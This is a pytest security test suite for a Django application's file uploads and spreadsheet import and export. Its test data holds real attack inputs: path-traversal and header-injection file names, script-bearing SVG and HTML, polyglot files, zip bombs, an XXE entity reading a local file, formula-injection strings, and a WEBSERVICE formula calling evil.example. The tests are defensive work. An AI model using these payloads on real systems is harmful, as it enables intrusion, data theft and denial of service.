"""What comes in as files and goes out as files."""

import io
import resource
import time
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from yiwei.catalog.models.product import Supplier
from yiwei.crm.models.customer import Customer
from yiwei.kernel.base.errors import Invalid
from yiwei.kernel.models import Attachment, ImportRun
from yiwei.kernel.records.attachments import attach
from yiwei.kernel.screens.exchange import guard
from yiwei.kernel.screens.exchange.workbook import open_workbook, read_rows

from .world import body_of

SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><script>alert(1)</script>"
PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 64


@pytest.fixture
def keep(world):
    """Attach a file to a row of the guide, and fetch it as the browser would."""
    row = world.row(world.one, "here", Customer)

    def kept(name, body):
        with world.one.inside("guide"):
            actor = world.one.actor("guide")
            made = attach(actor, row, SimpleUploadedFile("x", body) if name is None else named(name, body))
            return made, world.client("guide").get(made.url(actor))
    return kept


def named(name, body):
    upload = SimpleUploadedFile("x.pdf", body)
    upload._name = name
    return upload


@pytest.mark.parametrize("name, kept_as", [
    ("../../etc/passwd.pdf", "passwd.pdf"), ("..\\..\\boot.pdf", "boot.pdf"), ("a\0b.pdf", "a_b.pdf"), ("a\r\nX-Y: z.pdf", "a__X-Y_ z.pdf"),
    ("gpj.\u202efdp.pdf", "gpj._fdp.pdf"), ("a\u200b\u2066b.pdf", "a__b.pdf"), ("中文 名.pdf", "中文 名.pdf"), ('a"b;c.pdf', "a_b;c.pdf"),
    ("<img src=x onerror=alert(1)>.pdf", "_img src=x onerror=alert(1)_.pdf"), ("x" * 400 + ".pdf", "x" * 180 + ".pdf"),
])
def test_a_name_loses_path_and_tricks(keep, settings, name, kept_as):
    made, answer = keep(name, b"%PDF-1.4 x")
    assert made.name == kept_as
    assert str(made.path.resolve()).startswith(str(settings.MEDIA_ROOT.resolve() if hasattr(settings.MEDIA_ROOT, "resolve") else settings.MEDIA_ROOT))
    assert "\n" not in answer["Content-Disposition"] and answer.status_code == 200


@pytest.mark.parametrize("name", ["a.html", "a.svg", "a.js", "a.exe", "a.htm", "a.xhtml", "a.pdf.html", "pdf", ".pdf", "", "a.php", "a.xml"])
def test_kinds_that_a_browser_runs_are_not_taken(keep, name):
    with pytest.raises(Invalid):
        keep(name, b"%PDF-1.4 x")


@pytest.mark.parametrize("ending", ["pdf", "png", "jpg", "gif", "txt", "csv", "zip", "docx", "webp"])
@pytest.mark.parametrize("body", [HTML, SVG, b"<?xml version='1.0'?>" + SVG, b"\xef\xbb\xbf" + HTML, b"GIF89a" + HTML])
def test_disguised_pages_are_never_run(keep, ending, body):
    _made, answer = keep(f"a.{ending}", body)
    kind = answer["Content-Type"]
    assert "html" not in kind and "svg" not in kind and "xml" not in kind.split("openxml")[0] and "javascript" not in kind
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert "default-src 'none'" in answer["Content-Security-Policy"] and "sandbox" in answer["Content-Security-Policy"]
    inline = not answer["Content-Disposition"].startswith("attachment")
    assert not inline or kind in ("image/png", "image/jpeg", "image/gif", "image/webp", "application/pdf")


ZIP = b"PK\x05\x06" + b"\0" * 18
TWO = {"a page in an image": ("a.png", PNG + HTML), "a page in a PDF": ("a.pdf", b"%PDF-1.4\n" + HTML), "a PDF in an image": ("a.gif", b"GIF89a %PDF-1.4"),
       "an archive behind an image": ("a.png", PNG + ZIP), "an archive behind a PDF": ("a.pdf", b"%PDF-1.4\n%%EOF\n" + ZIP),
       "a PDF that begins late": ("a.pdf", b"\n\n%PDF-1.4\n"), "a picture with a script": ("a.gif", b"GIF89a" + b"\0" * 9 + b"<ScRiPt>")}


@pytest.mark.parametrize("name", TWO)
def test_what_is_two_things_at_once_is_never_shown_in_place(keep, name):
    _made, answer = keep(*TWO[name])
    assert answer["Content-Disposition"].startswith("attachment") and answer["Content-Type"] == "application/octet-stream"


@pytest.mark.parametrize("name, body", [("a.png", PNG), ("a.pdf", b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\n%%EOF\n"),
                                        ("a.jpg", b"\xff\xd8\xff\xe0\0\x10JFIF\0" + b"\0" * 50 + b"\xff\xd9")])
def test_plain_pictures_and_papers_are_shown_in_place(keep, name, body):
    _made, answer = keep(name, body)
    assert not answer["Content-Disposition"].startswith("attachment")


def test_too_large_and_empty_files_are_refused(keep, monkeypatch):
    monkeypatch.setattr("yiwei.kernel.records.attachments.LIMIT", 100)
    for body in (b"", b"%PDF-1.4" + b"x" * 200):
        with pytest.raises(Invalid):
            keep("a.pdf", body)


def test_a_request_that_is_too_large_is_refused_before_it_is_read(world, settings):
    settings.YIWEI_LARGEST_REQUEST = 1000
    row = world.row(world.one, "here", Customer)
    answer = world.client("guide").post(f"/r/crm/customer/{row.pk}/upload/", {"file": SimpleUploadedFile("a.pdf", b"x" * 2000)})
    assert answer.status_code == 413
    with world.one.inside():
        assert not Attachment.objects.filter(model="crm.customer").exists()


# -- workbooks ------------------------------------------------------------------------------------

NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG = "http://schemas.openxmlformats.org/package/2006"
START = f"<worksheet {NS}><sheetData>"
END = "</sheetData></worksheet>"


def workbook(sheet, *, strings="", method=zipfile.ZIP_DEFLATED, more=()):
    """A workbook of one sheet with the XML given."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as z:
        z.writestr("[Content_Types].xml", f'<Types xmlns="{PKG}/content-types"><Default Extension="rels" ContentType='
                   '"application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/></Types>')
        z.writestr("_rels/.rels", f'<Relationships xmlns="{PKG}/relationships"><Relationship Id="r1" Type="{REL}/officeDocument" '
                   'Target="xl/workbook.xml"/></Relationships>')
        z.writestr("xl/workbook.xml", f'<workbook {NS} xmlns:r="{REL}"><sheets><sheet name="S" sheetId="1" r:id="r1"/></sheets></workbook>')
        z.writestr("xl/_rels/workbook.xml.rels", f'<Relationships xmlns="{PKG}/relationships"><Relationship Id="r1" Type="{REL}/worksheet" '
                   'Target="worksheets/sheet1.xml"/></Relationships>')
        z.writestr("xl/worksheets/sheet1.xml", sheet)
        for name, body in more:
            z.writestr(name, body)
    return out.getvalue()


def cells(*values):
    return "".join(f'<row r="{n}">' + "".join(f'<c r="{chr(65 + i)}{n}" t="inlineStr"><is><t>{v}</t></is></c>' for i, v in enumerate(row))
                   + "</row>" for n, row in enumerate(values, 1))


MUCH = 2 * 2**20
BOMBS = {
    "two cells far apart": workbook(START + '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>' + END),
    "the same with other quotes": workbook(START + "<row r='1048576'><c r = ' XFD1048576'><v>1</v></c></row>" + END),
    "far row, far column": workbook(START + '<row r="1"><c r="XFD1"><v>1</v></c></row><row r="1000000"><c><v>1</v></c></row>' + END),
    "much from little": workbook(START + END, more=[("xl/media/x.xml", b"0" * (MUCH + 1))]),
}


ONE = "<row><c><v>1</v></c></row>"
FLOODS = {  # without any r attribute, so that only reading shows how much there is
    "a million rows and one wide one": lambda: workbook(START + ONE * 1_000_000 + "<row>" + "<c><v>1</v></c>" * 16_000 + "</row>" + END),
    "fifteen million empty cells": lambda: workbook(START + "<row>" + "<c/>" * 15_000_000 + "</row>" + END),
}


@pytest.mark.parametrize("name", FLOODS)
def test_a_workbook_that_shows_its_size_only_while_read_takes_nothing_of_us(name):
    body, began = FLOODS[name](), time.monotonic()
    assert len(body) < 2**18
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(Invalid):
        open_workbook(body)
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 50_000  # KB
    assert time.monotonic() - began < 35


@pytest.fixture
def small_house(monkeypatch):
    """A house that takes little, so that little is needed to be too much."""
    monkeypatch.setattr(guard, "UNPACKED", MUCH)


@pytest.mark.parametrize("name", BOMBS)
def test_a_workbook_that_would_fill_the_memory_is_refused(world, small_house, name):
    assert len(BOMBS[name]) < 2**14
    with pytest.raises(Invalid):
        open_workbook(BOMBS[name])
    answer = world.client("tenant_admin").post("/r/org/employee/import/", {"file": SimpleUploadedFile("a.xlsx", BOMBS[name])})
    assert answer.status_code == 422
    with world.one.inside():
        assert not ImportRun.objects.exists()


def test_a_lying_directory_does_not_help(small_house):
    """The size is counted by unpacking, whatever the archive says of itself."""
    body = bytearray(BOMBS["much from little"])
    true = (MUCH + 1).to_bytes(4, "little")
    assert body.count(true) >= 2
    with pytest.raises((guard.TooMuch, ValueError)):
        guard.check(bytes(body.replace(true, (10).to_bytes(4, "little"))))


@pytest.mark.parametrize("body", [b"", b"x", b"PK\x03\x04", b"PK\x05\x06" + b"\0" * 18, BOMBS["much from little"][:500],
                                  b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
                                  workbook(START), workbook("<x"), workbook(START + END).replace(b"workbook", b"workb00k"), b"<html></html>"])
def test_what_is_no_workbook_is_refused_in_words(world, body):
    answer = world.client("tenant_admin").post("/r/org/employee/import/", {"file": SimpleUploadedFile("a.xlsx", body)})
    assert answer.status_code == 422


def test_entities_of_a_workbook_read_no_file(tmp_path):
    secret = tmp_path / "secret"
    secret.write_text("Qxsecret")
    sheet = f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{secret}">]>' + START + cells(("name", "code"), ("&e;", "1")) + END
    try:
        rows = list(read_rows(workbook(sheet), {"name": ["name"], "code": ["code"]}))
    except Invalid:
        rows = []
    assert "Qxsecret" not in str(rows)


EVIL = ["=1+1", "=cmd|' /C calc'!A0", "+1", "-1", "@SUM(A1)", "\t=1", "http://evil.example", "=HYPERLINK(\"x\")"]


def test_text_stays_text_in_what_is_taken_out(world):
    with world.one.inside():
        Supplier.objects.bulk_create([Supplier(code=f"E{n}", name=text) for n, text in enumerate(EVIL)])
    answer = world.client("general_manager").get("/r/catalog/supplier/export/")
    with zipfile.ZipFile(io.BytesIO(answer.content)) as book:
        names = book.namelist()
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "hyperlink" not in sheet and not [n for n in names if "externalLink" in n]
    assert "cmd|" in body_of(answer) and 'filename*=UTF-8' in answer["Content-Disposition"]


def test_a_workbook_that_runs_on_import_gives_text(world):
    made = workbook(START + '<row r="1"><c r="A1" t="inlineStr"><is><t>name</t></is></c><c r="B1" t="inlineStr"><is><t>code</t></is></c></row>'
                    '<row r="2"><c r="A2" t="str"><f>WEBSERVICE("http://evil.example")</f><v>=1+1</v></c><c r="B2"><v>7</v></c></row>' + END)
    assert list(read_rows(made, {"name": ["name"], "code": ["code"]})) == [(2, {"name": "=1+1", "code": 7})]


def test_an_export_is_recorded(world):
    from yiwei.kernel.models import Disclosure
    client = world.client("general_manager")
    client.get("/r/catalog/supplier/export/?q=x")
    client.get(reverse("report-export", args=["receipts"]) + "?by=x")
    with world.one.inside():
        told = set(Disclosure.objects.filter(kind="export").values_list("source", flat=True))
    assert {"catalog.supplier", "report.receipts"} <= told
